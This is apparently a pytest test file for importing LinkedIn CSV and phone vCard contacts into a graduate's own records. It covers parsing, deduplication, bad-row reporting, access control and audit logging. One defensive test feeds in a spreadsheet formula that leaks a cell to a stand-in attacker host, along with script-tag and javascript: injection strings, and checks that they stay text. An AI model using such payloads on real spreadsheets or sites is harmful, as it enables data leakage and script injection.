"""Contacts in (issue 21): LinkedIn's Connections.csv as it really comes and vCard exports of two
phones read into the graduate's own contacts; a dry run names new, known and bad rows; a second
import adds nothing; hostile cells stay text; only the graduate imports, into their own."""

from __future__ import annotations

from pathlib import Path

import pytest
from sqlalchemy import func, select

from networkit_core.actor import Actor
from networkit_core.context import Context
from networkit_core.errors import AccessDenied, InvalidInput
from networkit_core.interchange.export import export
from networkit_core.interchange.formats import MAX_IMPORT_BYTES
from networkit_core.models import AuditEntry, Connection, Contact, ContactSource, Role
from networkit_core.services.contact_imports import (
    BY_EMAIL,
    BY_NAME,
    BY_URL,
    ContactImportRefused,
    check_contact_file,
    import_contacts,
)
from tests import factories

FILES = Path(__file__).parent / "contact_files"
HEADER = "First Name,Last Name,URL,Email Address,Company,Position,Connected On"
NOTES = (
    "Notes:\r\n"
    '"When exporting your connection data, you may notice that some of the email addresses are '
    "missing. You will only see email addresses for connections who have allowed their "
    'connections to see or download their email address."\r\n'
    "\r\n"
)


def linkedin(*rows: str) -> bytes:
    """A Connections.csv as LinkedIn writes it: the note lines, the header on row 4, then rows."""
    return (NOTES + HEADER + "\r\n" + "".join(f"{row}\r\n" for row in rows)).encode("utf-8")


def fixture(name: str) -> bytes:
    return (FILES / name).read_bytes()


@pytest.fixture
def me(ctx: Context) -> tuple[Actor, int]:
    return factories.graduate(ctx, factories.cohort(ctx))


def contacts_of(ctx: Context, graduate_id: int) -> list[Contact]:
    with ctx.unit_of_work() as session:
        found = session.scalars(
            select(Contact).where(Contact.graduate_id == graduate_id).order_by(Contact.id)
        ).all()
        session.expunge_all()
        return list(found)


def test_linkedin_export_as_it_comes(ctx: Context, me: tuple[Actor, int]) -> None:
    """Note lines, a BOM, blank rows, empty e-mails, a comma in a quoted company, `12 Mar 2024`."""
    actor, graduate_id = me
    data = fixture("Connections.csv")
    assert data.startswith(b"\xef\xbb\xbf")
    check = check_contact_file(ctx, actor, "Connections.csv", data)
    assert (check.source, check.row_word, check.known, check.bad) == (
        ContactSource.LINKEDIN,
        "row",
        (),
        (),
    )
    # Rows as a spreadsheet numbers them: three note lines and the header come first.
    assert [(c.row, c.name, c.organization, c.email) for c in check.new] == [
        (5, "Priya Shah", "Acme Corp", None),
        (6, "Tomás García", "Northwind Traders, Inc.", "tomas.garcia@example.com"),
        (8, "Mei Lin", "Contoso", None),
        (9, "Sam O'Neil", "", None),
    ]
    assert contacts_of(ctx, graduate_id) == []  # the dry run wrote nothing

    result = import_contacts(ctx, actor, "Connections.csv", data)
    assert (result.added, result.known, result.left_out) == (4, 0, 0)
    priya = contacts_of(ctx, graduate_id)[0]
    assert (priya.name, priya.title, priya.linkedin_url, str(priya.connected_on)) == (
        "Priya Shah",
        "Engineering Manager",
        "https://www.linkedin.com/in/priya-shah-0a1b2c",
        "2024-03-12",
    )
    assert (priya.source, priya.how_connected, priya.added_by_id) == (
        ContactSource.LINKEDIN,
        Connection.SOCIAL_MEDIA,
        actor.id,
    )


def test_a_second_import_adds_nothing(ctx: Context, me: tuple[Actor, int]) -> None:
    actor, graduate_id = me
    for name in ("Connections.csv", "iphone.vcf", "android.vcf"):
        import_contacts(ctx, actor, name, fixture(name), leave_out_bad=True)
    count = len(contacts_of(ctx, graduate_id))
    assert count == 4 + 2 + 3
    for name in ("Connections.csv", "iphone.vcf", "android.vcf"):
        check = check_contact_file(ctx, actor, name, fixture(name))
        assert check.new == ()
        again = import_contacts(ctx, actor, name, fixture(name), leave_out_bad=True)
        assert again.added == 0
        assert again.known == len(check.known) > 0
    assert len(contacts_of(ctx, graduate_id)) == count


def test_iphone_export(ctx: Context, me: tuple[Actor, int]) -> None:
    """vCard 3.0 from an iPhone or iCloud: grouped `item1.EMAIL;type=INTERNET`, `ORG:Acme;Sales`,
    the profile in `item2.URL` and `X-SOCIALPROFILE`; a card without a name is named bad."""
    actor, _ = me
    check = check_contact_file(ctx, actor, "iphone.vcf", fixture("iphone.vcf"))
    assert check.row_word == "card"
    assert [
        (c.row, c.name, c.organization, c.title, c.email, c.linkedin_url) for c in check.new
    ] == [
        (
            1,
            "Adaeze Okafor",
            "Acme",
            "Account Executive",
            "adaeze.okafor@acme.example",
            "https://www.linkedin.com/in/adaeze-okafor",
        ),
        (2, "Björn Lindqvist", "Fabrikam", "Product Designer", "bjorn@fabrikam.example", None),
    ]
    assert [(bad.row, bad.reason) for bad in check.bad] == [
        (3, "no name: a contact needs at least a first or a last name (line 26)")
    ]


def test_android_export(ctx: Context, me: tuple[Actor, int]) -> None:
    """Android or Google Contacts: vCard 2.1 with quoted-printable UTF-8 names and bare types
    (`EMAIL;WORK`), and 3.0 with `EMAIL;TYPE=INTERNET;TYPE=WORK`; a soft line break too."""
    actor, _ = me
    check = check_contact_file(ctx, actor, "android.vcf", fixture("android.vcf"))
    assert check.bad == ()
    assert [(c.name, c.organization, c.email) for c in check.new] == [
        ("Jürgen Müller", "Siemens Energy", "juergen.mueller@example.de"),
        ("Linh Nguyen", "", None),
        ("Grace Hopper", "US Navy", "grace@navy.example"),
    ]
    folded = (
        b"BEGIN:VCARD\r\nVERSION:2.1\r\n"
        b"N;CHARSET=UTF-8;ENCODING=QUOTED-PRINTABLE:Dubois;=C3=89lodie;;;\r\n"
        b"FN;CHARSET=UTF-8;ENCODING=QUOTED-PRINTABLE:=C3=89lodie Fran=C3=A7oise =\r\n"
        b"Dubois-Lefebvre\r\nEND:VCARD\r\n"
    )
    assert [c.name for c in check_contact_file(ctx, actor, "x.vcf", folded).new] == [
        "Élodie Françoise Dubois-Lefebvre"
    ]


def test_matched_by_email_url_or_name_and_organization(ctx: Context, me: tuple[Actor, int]) -> None:
    actor, graduate_id = me
    by_email = factories.contact(ctx, graduate_id, "P. Shah", email="priya@acme.example")
    by_url = factories.contact(
        ctx, graduate_id, "Tom G", linkedin_url="http://linkedin.com/in/TomasGarcia/"
    )
    by_name = factories.contact(ctx, graduate_id, "Mei   LIN", organization=" contoso ")
    data = linkedin(
        "Priya,Shah,,Priya@ACME.example,Other Co,,",
        "Tomás,García,https://www.linkedin.com/in/tomasgarcia?trk=x,,Northwind,,",
        "Mei,Lin,,,Contoso,Recruiter,",
        "Mei,Lin,,,Fabrikam,,",  # same name, another organization: someone else
        "Ana,Lima,,ana@studio.example,,,",
        "ANA,LIMA,,,,,",  # the same person as the row before: once
    )
    check = check_contact_file(ctx, actor, "Connections.csv", data)
    assert [(k.row, k.matched_by, k.contact_id, k.same_as_row) for k in check.known] == [
        (5, BY_EMAIL, by_email, None),
        (6, BY_URL, by_url, None),
        (7, BY_NAME, by_name, None),
        (10, BY_NAME, None, 9),
    ]
    assert [(c.row, c.name, c.organization) for c in check.new] == [
        (8, "Mei Lin", "Fabrikam"),
        (9, "Ana Lima", ""),
    ]
    assert import_contacts(ctx, actor, "Connections.csv", data).added == 2
    assert len(contacts_of(ctx, graduate_id)) == 5


def test_bad_rows_are_named_and_a_bad_file_changes_nothing(
    ctx: Context, me: tuple[Actor, int]
) -> None:
    actor, graduate_id = me
    data = linkedin(
        "Good,Row,,,,,",
        ",,https://www.linkedin.com/in/nobody,,Acme,,",
        "Bad,Mail,,not-an-address,,,",
        "Bad,Day,,,,,31 Foo 2024",
        "Bel\x07l,Char,,,,,",
        "Too,Few,cells",
        "Bad,Link,javascript:alert(1),,,,",
        "Late,Day,,,,,01 Jan 2099",
    )
    check = check_contact_file(ctx, actor, "Connections.csv", data)
    reasons = {bad.row: bad.reason for bad in check.bad}
    assert sorted(reasons) == [6, 7, 8, 9, 10, 11, 12]
    assert reasons[6] == "no name: a contact needs at least a first or a last name"
    assert reasons[7] == "Email Address 'not-an-address' is not a valid e-mail address"
    assert reasons[8] == "Connected On '31 Foo 2024' is not a day like 12 Mar 2024"
    assert reasons[9].startswith("First Name holds a control character (U+0007) at position 4")
    assert reasons[10] == "the row has 3 cells but the header has 7"
    assert reasons[11] == "URL 'javascript:alert(1)' is not a web address (https://...)"
    assert reasons[12].startswith("Connected On 2099-01-01 is out of range")
    assert [bad.name for bad in check.bad][:2] == ["", "Bad Mail"]

    with pytest.raises(
        ContactImportRefused, match="7 rows cannot be imported, so nothing"
    ) as refused:
        import_contacts(ctx, actor, "Connections.csv", data)
    assert "row 6: no name" in str(refused.value)
    assert contacts_of(ctx, graduate_id) == []
    # Asked to, the good ones go in and the bad ones are left out.
    result = import_contacts(ctx, actor, "Connections.csv", data, leave_out_bad=True)
    assert (result.added, result.left_out) == (1, 7)
    assert [c.name for c in contacts_of(ctx, graduate_id)] == ["Good Row"]


def test_files_that_cannot_be_read_are_refused_whole(ctx: Context, me: tuple[Actor, int]) -> None:
    actor, graduate_id = me
    with pytest.raises(InvalidInput, match=r"no header row found: a LinkedIn Connections\.csv"):
        check_contact_file(ctx, actor, "c.csv", b"Name,Phone\nAna,555\n")
    with pytest.raises(InvalidInput, match="not UTF-8 or UTF-16 text"):
        check_contact_file(ctx, actor, "c.csv", b"\xff\xd8\xff\xe0 not text at all")
    with pytest.raises(InvalidInput, match="no vCard found"):
        check_contact_file(ctx, actor, "c.vcf", b"hello\n")
    with pytest.raises(InvalidInput, match="is not a contact file"):
        check_contact_file(ctx, actor, "c.xlsx", b"PK\x03\x04")
    # Over the import limit: refused by its size, before it is decoded.
    with pytest.raises(InvalidInput, match=f"files of at most {MAX_IMPORT_BYTES // 2**20} MB"):
        import_contacts(ctx, actor, "c.csv", b"\xff" * (MAX_IMPORT_BYTES + 1))
    assert contacts_of(ctx, graduate_id) == []


def test_hostile_cells(ctx: Context, me: tuple[Actor, int]) -> None:
    """A formula is stored as the text it is and neutralised on export; markup stays text; a 1 MB
    cell is refused by its field's name, the rest of its row unread."""
    actor, graduate_id = me
    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
    data = linkedin(
        f'"{formula.replace(chr(34), chr(34) * 2)}",Smith,,,Acme,,',
        '"<script>alert(1)</script>","**bold** [x](javascript:alert(1))",,,"<b>Org</b>",,',
        "Big,Cell,,," + "x" * (1 << 20) + ",,",
    )
    check = check_contact_file(ctx, actor, "Connections.csv", data)
    assert [c.name for c in check.new] == [
        f"{formula} Smith",
        "<script>alert(1)</script> **bold** [x](javascript:alert(1))",
    ]
    assert [(bad.row, bad.name, bad.reason) for bad in check.bad] == [
        (7, "Big Cell", "Company is too long: 1,048,576 characters, at most 160")
    ]
    import_contacts(ctx, actor, "Connections.csv", data, leave_out_bad=True)
    stored = contacts_of(ctx, graduate_id)
    assert [c.name for c in stored] == [c.name for c in check.new]
    assert stored[1].organization == "<b>Org</b>"
    # Met at an interview, the formula contact's name leaves in an export neutralised.
    factories.interview(ctx, graduate_id, contact_id=stored[0].id)
    exported = export(ctx, actor, "interviews").decode("utf-8")
    assert f"'{formula} Smith".replace('"', '""') in exported


def test_only_the_graduate_imports_into_their_own_contacts(
    ctx: Context, me: tuple[Actor, int]
) -> None:
    actor, graduate_id = me
    advisor = factories.user(ctx, Role.ADVISOR)
    admin = factories.user(ctx, Role.ADMIN)
    _other, other_id = factories.graduate(ctx, factories.cohort(ctx))
    # The other graduate knows Priya (same e-mail, URL, name): my import never matches theirs.
    theirs = factories.contact(
        ctx,
        other_id,
        "Priya Shah",
        organization="Acme Corp",
        linkedin_url="https://www.linkedin.com/in/priya-shah-0a1b2c",
    )
    data = fixture("Connections.csv")
    check = check_contact_file(ctx, actor, "Connections.csv", data)
    assert check.known == () and len(check.new) == 4
    import_contacts(ctx, actor, "Connections.csv", data)
    assert [c.id for c in contacts_of(ctx, other_id)] == [theirs]
    assert len(contacts_of(ctx, graduate_id)) == 4

    for staff in (advisor, admin):
        with pytest.raises(AccessDenied):
            check_contact_file(ctx, staff, "Connections.csv", data)
        with pytest.raises(AccessDenied):
            import_contacts(ctx, staff, "Connections.csv", data)
    assert [c.id for c in contacts_of(ctx, other_id)] == [theirs]
    assert len(contacts_of(ctx, graduate_id)) == 4
    with ctx.unit_of_work() as session:
        refused = session.scalars(
            select(AuditEntry.actor_id)
            .where(AuditEntry.action == "import_refused", AuditEntry.entity == "contacts")
            .order_by(AuditEntry.id)
        ).all()
    assert refused == [advisor.id, advisor.id, admin.id, admin.id]


def test_the_import_is_audited(ctx: Context, me: tuple[Actor, int]) -> None:
    actor, graduate_id = me
    import_contacts(ctx, actor, "iphone.vcf", fixture("iphone.vcf"), leave_out_bad=True)
    with pytest.raises(ContactImportRefused):
        import_contacts(ctx, actor, "iphone.vcf", fixture("iphone.vcf"))
    with ctx.unit_of_work() as session:
        entries = session.execute(
            select(AuditEntry.action, AuditEntry.actor_id, AuditEntry.detail)
            .where(AuditEntry.entity == "contacts")
            .order_by(AuditEntry.id)
        ).all()
        per_contact = session.scalar(
            select(func.count()).select_from(AuditEntry).where(AuditEntry.entity == "contact")
        )
    assert [(action, who) for action, who, _detail in entries] == [
        ("import", actor.id),
        ("import_refused", actor.id),
    ]
    assert entries[0][2] == {
        "graduate_id": graduate_id,
        "source": "vcard",
        "file": "iphone.vcf",
        "added": 2,
        "known": 0,
        "left_out": 1,
    }
    assert entries[1][2]["file"] == "iphone.vcf"
    assert per_contact == 0  # one entry for the import, not one per contact
